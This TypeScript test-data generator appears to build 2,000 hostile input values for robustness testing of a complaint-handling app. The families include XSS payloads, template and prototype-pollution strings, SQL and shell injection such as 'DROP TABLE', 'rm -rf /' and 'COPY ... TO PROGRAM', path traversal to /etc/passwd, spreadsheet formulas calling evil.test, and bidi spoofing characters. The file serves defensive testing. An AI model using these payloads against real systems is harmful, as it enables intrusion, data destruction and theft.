/** Draws one of a list. */
type Pick = <Value>(values: readonly Value[]) => Value;
type Family = { readonly count: number; readonly make: (n: number, pick: Pick) => string };

/** What every piece of script among the values does; a page on which it is set has run one. */
const RUN = 'window.__pwned=1';

const WORDS = [
  '投诉人',
  '周先生',
  '柜台',
  '要求赔偿',
  '說明',
  'teller',
  'Überweisung',
  'شكوى',
  '고객',
  'ゆうちょ',
];
const TAGS = ['img', 'video', 'audio', 'body', 'iframe', 'input', 'details', 'marquee', 'object', 'embed'];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
/** Where in a page a text may stand, as what breaks out of it. */
const BREAKS = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  ']]>',
  '`}',
  '\\">',
];
const CONTROLS = [
  ...Array.from({ length: 32 }, (_, code) => code).filter((code) => code !== 9 && code !== 10),
  ...Array.from({ length: 33 }, (_, index) => 0x7f + index),
].map((code) => String.fromCharCode(code));
const TURNS = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069'];
const MARKS = [
  '\u200E',
  '\u200F',
  '\u061C',
  '\u200B',
  '\u200C',
  '\u200D',
  '\u2060',
  '\uFEFF',
  '\u00AD',
  '\u180E',
];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\n=', "'=", ' ='];

const family = (count: number, make: Family['make']): Family => ({ count, make });
const between = (pick: Pick, piece: string) => `${pick(WORDS)}${piece}${pick(WORDS)}`;
const fullWidth = (text: string) =>
  text.replaceAll(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0));

const MARKUP = {
  script: family(120, (n, pick) => `${pick(BREAKS)}<script>${RUN};/*${n}*/</script>${pick(WORDS)}`),
  handler: family(150, (n, pick) => {
    const [tag, handler] = [pick(TAGS), pick(HANDLERS)];
    const head = pick([
      `<${tag} src=x`,
      `<${tag}/src=x`,
      `<${tag.toUpperCase()} autofocus tabindex=1`,
      `<${tag}\nopen`,
    ]);
    return `${pick(BREAKS)}${head} ${handler}=${pick([`"${RUN}"`, `'${RUN}'`, RUN, `&#119;indow.__pwned=1`])} id=h${n}>`;
  }),
  address: family(90, (n, pick) => {
    const scheme = pick([
      'javascript:',
      'JaVaScRiPt:',
      'java\tscript:',
      ' javascript:',
      'vbscript:',
      'data:text/html,<script>',
      'view-source:',
      'file:///c:/',
      'blob:',
      'branchbook://',
    ]);
    return pick([
      `${scheme}${RUN}//${n}`,
      `<a href="${scheme}${RUN}//${n}">${pick(WORDS)}</a>`,
      `[${pick(WORDS)}](${scheme}${RUN}//${n})`,
    ]);
  }),
  drawing: family(100, (n, pick) =>
    pick([
      `<svg onload=${RUN} id=s${n}>`,
      `<svg><animate onbegin=${RUN} attributeName=x dur=${n + 1}s>`,
      `<svg><script href="data:text/javascript,${RUN}//${n}"/></svg>`,
      `<svg><use href="data:image/svg+xml,<svg id=x${n} onload=${RUN}>#x"/></svg>`,
      `<math><mtext><table><mglyph><style><img src=x${n} onerror=${RUN}>`,
      `<math href="javascript:${RUN}//${n}">CLICK</math>`,
      `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=${n}</script>">`,
    ]),
  ),
  structure: family(60, (n, pick) =>
    pick([
      `<meta http-equiv=refresh content="0;url=https://evil.test/${n}">`,
      `<base href="https://evil.test/${n}/">`,
      `<form action="https://evil.test/${n}"><button>${pick(WORDS)}`,
      `<link rel=stylesheet href="https://evil.test/${n}.css">`,
      `<style>@import"https://evil.test/${n}";*{display:none}</style>`,
      `<noscript><p title="</noscript><img src=x${n} onerror=${RUN}>">`,
      `<template><img src=x${n} onerror=${RUN}></template>`,
      `&lt;img src=x${n} onerror=${RUN}&gt;`,
    ]),
  ),
};

const CODE = {
  template: family(100, (n, pick) =>
    pick([
      `{{${n}*${n}}}`,
      `{{constructor.constructor("${RUN}")(${n})}}`,
      `\${${RUN}+${n}}`,
      `#{${n}}`,
      `<%= ${n} %>`,
      `{% include "${n}" %}`,
      `{{amount, currency(${n})}} ${pick(WORDS)}`,
      `%s%n%d${n}`,
    ]),
  ),
  translation: family(80, (n, pick) =>
    pick([
      `$t(common:rule)${n}`,
      `$t(refusals:forbidden-character, {"field":"${n}"})`,
      `{{field}}${n}`,
      `$t($t($t(entry:${n})))`,
      `common:rule.${n}`,
      `<0>${n}</0><1/>`,
      `{{- field}}${n}`,
    ]),
  ),
  prototype: family(80, (n, pick) => {
    const key = pick([
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      'valueOf',
      '__defineGetter__',
    ]);
    return pick([
      key,
      `${key}.${n}`,
      `{"${key}":{"isAdmin":${n}}}`,
      `${key}[__pwned]=${n}`,
      `details.${key}${n}`,
    ]);
  }),
  sql: family(60, (n, pick) =>
    pick([
      `' OR ${n}=${n} --`,
      `'; DROP TABLE events; -- ${n}`,
      `${n}) UNION SELECT password FROM officers --`,
      `\\'; COPY events TO PROGRAM 'id ${n}' --`,
      `$$;DELETE FROM feed WHERE seq>${n};$$`,
      `"; rm -rf /${n} #`,
      `| calc.exe ${n}`,
      `../../../../etc/passwd%00${n}`,
      `\\\\evil.test\\share\\${n}`,
    ]),
  ),
  formula: family(
    90,
    (n, pick) =>
      pick(SIGNS) +
      pick([
        `cmd|' /C calc'!A${n}`,
        `HYPERLINK("https://evil.test/${n}","${pick(WORDS)}")`,
        `1+${n}`,
        `SUM(A1:A${n})`,
        `WEBSERVICE("https://evil.test/${n}")`,
      ]),
  ),
  slow: family(60, (n, pick) => {
    const length = 120 + n * 90;
    const unit = pick(['a', ' ', '0', '.', '-', '(', '<', '{', '\t', '我叫', '<!--', '9,', ' .', '／']);
    return `${unit.repeat(Math.min(length, 9_000) / unit.length)}${pick(['!', 'X', '\n!', ''])}`.padStart(
      n % 7,
    );
  }),
};

const CHARACTERS = {
  turn: family(120, (n, pick) => `${pick(WORDS)}${pick(TURNS)}gnp.exe${n}${pick(['', ...TURNS])}`),
  invisible: family(80, (n, pick) => `${pick(WORDS)}${pick(MARKS)}${pick(MARKS)}${pick(WORDS)}${n}`),
  blank: family(24, (n, pick) =>
    pick(['', ' ', '\t', '\n', '\u3000', '\u00A0', '\u2003', '\uFEFF']).repeat(n === 0 ? 0 : 1 + (n % 6)),
  ),
  combining: family(
    50,
    (n, pick) =>
      `${pick(WORDS)}${pick(['\u0301', '\u0489', '\u20DD', '\u0E47', '\u036F']).repeat(1 + n * 3)}`,
  ),
  surrogate: family(90, (n, pick) => {
    const lone = pick(['\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\uDC00\uD800', '\uD83D']);
    return pick([lone + n, `${pick(WORDS)}${lone}`, `${n}${lone}${pick(WORDS)}`]);
  }),
  control: family(130, (n, pick) => between(pick, `${pick(CONTROLS)}${n}`)),
  line: family(
    40,
    (n, pick) =>
      `${pick(WORDS)}${pick(['\r\n', '\r', '\n', '\u2028', '\u2029', '\n\r', '\n\n\n', '\t'])}Set-Cookie: x=${n}`,
  ),
  emoji: family(
    50,
    (n, pick) => `${pick(['👨‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '👩🏽‍⚖️', '🇨🇳', '🇹🇼', '❤️‍🔥', '🧑🏿‍🤝‍🧑🏻', '#️⃣'])}${pick(WORDS)}${n}`,
  ),
  name: family(
    60,
    (n, pick) =>
      `${pick(['محمد بن سلمان', 'יוסף כהן', 'نور‌الله', '𠮷野家', '㐂久', '買買提·艾力', 'O’Brien-Müller', 'ﷺ', 'Ｚｈａｎｇ', 'ⅷ', 'ﬁnance', 'é', 'e\u0301', 'Å'])} ${n}`,
  ),
};

const FIGURES = {
  date: family(90, (n, pick) => {
    const day = pick([
      '2026-02-30',
      '2026-02-29',
      '2026-13-01',
      '2026-00-10',
      '2026-11-31',
      '0000-01-01',
      '99999-01-01',
      '-2026-01-01',
      '2026-1-1',
      '２０２６-１１-２４',
      '1582-10-10',
      '2026-12-32',
    ]);
    return pick([
      day,
      `${day}T10:${String(n % 60).padStart(2, '0')}`,
      `${day}T24:00`,
      `${day}T25:${n % 100}`,
      `${day}T23:59:60Z${n}`,
      `民国${n}年2月30日`,
      `${n}/${n}/${n}`,
    ]);
  }),
  number: family(
    110,
    (n, pick) =>
      pick([
        '1e309',
        '-0',
        'NaN',
        'Infinity',
        '-1',
        '0x1F',
        '0b11',
        '0o17',
        '1.005',
        '12.345',
        '１２３．４５',
        '١٢٣',
        '1_000',
        '1,2,3',
        ',',
        '.',
        '1.',
        '.5',
        '99999999999',
        '10000000000.01',
        '9007199254740993',
        '一千元',
        '½',
        '²',
        '１,５００',
        '1e3',
        '+5',
        '￥100',
        '0.001',
        '1 000',
        '〇',
        '௧',
      ]) + pick(['', '', `${n}`, `e${n}`, `.${n}99`, ` ${n}`]),
  ),
  over: family(52, (n, pick) =>
    `${n}`.padEnd(10_001 + (n % 3) * n, pick(['字', 'a', '𠮷', '\n', '<b>', '"'])),
  ),
  edge: family(40, (n, pick) =>
    `${n}`.padEnd(pick([199, 200, 201, 9_999, 10_000]), pick(['界', 'x', 'é', '"'])),
  ),
  huge: family(4, (n) => `${n}${'巨'.repeat(5_000_000)}${'x'.repeat(5_000_000)}`.slice(0, 10_000_000)),
  padded: family(
    30,
    (n, pick) => pick(['  ', '\u3000', '\t', '\n']) + pick(WORDS) + n + pick(['  ', '\u3000', '\n', ' \t ']),
  ),
  wide: family(40, (n) => fullWidth(`<script>${RUN}</script>${n}`)),
};

/** The families of values, with how many of each: 2,000 together. */
export const HOSTILE_FAMILIES = {
  ...MARKUP,
  ...CODE,
  ...CHARACTERS,
  ...FIGURES,
} as const satisfies Readonly<Record<string, Family>>;
export type HostileFamily = keyof typeof HOSTILE_FAMILIES;
